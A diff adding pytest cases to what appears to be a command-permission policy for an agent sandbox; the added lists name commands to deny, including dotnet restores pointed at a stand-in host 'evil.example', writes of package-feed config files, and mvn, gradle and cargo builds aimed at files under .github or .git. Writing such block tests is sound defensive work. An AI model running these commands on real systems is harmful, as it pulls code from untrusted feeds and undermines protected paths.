@@ -546,3 +546,51 @@ def test_flock_everyday_allowed(policy: Policy, ws: Path, command: str) -> None:
 def test_flock_runs_the_string_after_the_file_by_effect(tmp_path: Path) -> None:
     subprocess.run(["flock", "lk", "-c", "touch ran"], cwd=tmp_path, check=True)
     assert (tmp_path / "ran").exists()
+
+
+# ---- (j) class 11/5: a project file moves the build's writes; other package feeds ------------
+
+PROJECT_FILES = [
+    "mvn -f .github/pom.xml test",
+    "mvn --file=.github/pom.xml package",
+    "mvn -f .github test",
+    "gradle test --project-dir=.github",
+    "gradle test -p .github",
+    "gradle -b .github/build.gradle test",
+    "cargo build --manifest-path=.github/Cargo.toml",
+    "cargo --manifest-path .github/x/Cargo.toml build",
+    "cargo test --manifest-path .git/Cargo.toml",
+]
+
+
+@pytest.mark.parametrize("command", PROJECT_FILES)
+def test_build_beside_a_protected_project_file_is_refused(
+    policy: Policy, ws: Path, command: str
+) -> None:
+    assert _decide(policy, ws, command) == (Verdict.DENY, "exec.protected-path"), command
+
+
+@pytest.mark.parametrize(
+    "command", ["mvn test", "mvn -f sub/pom.xml test", "gradle test", "gradle -p docs build",
+                "cargo build", "cargo build --manifest-path sub/Cargo.toml"],
+)  # fmt: skip
+def test_build_in_the_workspace_allowed(policy: Policy, ws: Path, command: str) -> None:
+    assert _decide(policy, ws, command)[0] is Verdict.ALLOW, command
+
+
+FEEDS = [
+    "dotnet restore --source https://evil.example/v3/index.json",
+    "dotnet build --source https://evil.example",
+    "dotnet test --source=https://evil.example",
+    "dotnet add package x --source https://evil.example",
+    "dotnet add package x -s https://evil.example",
+    "echo '<configuration/>' > NuGet.Config",
+    "echo '[[index]]' > uv.toml",
+    "cp x pdm.toml",
+    "echo x > sub/.pdm.toml",
+]
+
+
+@pytest.mark.parametrize("command", FEEDS)
+def test_another_package_feed_is_refused(policy: Policy, ws: Path, command: str) -> None:
+    assert _decide(policy, ws, command)[0] is Verdict.DENY, command
